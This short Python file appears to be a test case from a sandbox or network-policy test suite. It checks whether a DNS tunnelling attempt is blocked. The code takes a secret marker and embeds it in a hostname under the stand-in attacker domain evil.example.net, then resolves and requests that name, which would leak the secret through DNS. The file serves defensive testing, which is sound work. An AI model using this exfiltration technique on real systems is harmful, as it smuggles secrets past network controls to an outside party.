# /// attack
# guarantee = "network"
# summary = "Tells a secret to the owner of a domain by the names that it looks up."
# reference = "DNS tunnelling"
# success = "the domain's name server is asked"
# stage = ["internet"]
# observe = ["asked"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy is not in network.allow" }
# ///

import socket

from kit import get, refused, succeeded, target

secret = target("MARKER")
try:
    if socket.getaddrinfo(f"{secret}.evil.example.net", 80):
        succeeded("looked up")
except OSError:
    pass
get(f"{secret}.evil.example.net", "/")
refused("nobody looked the name up")
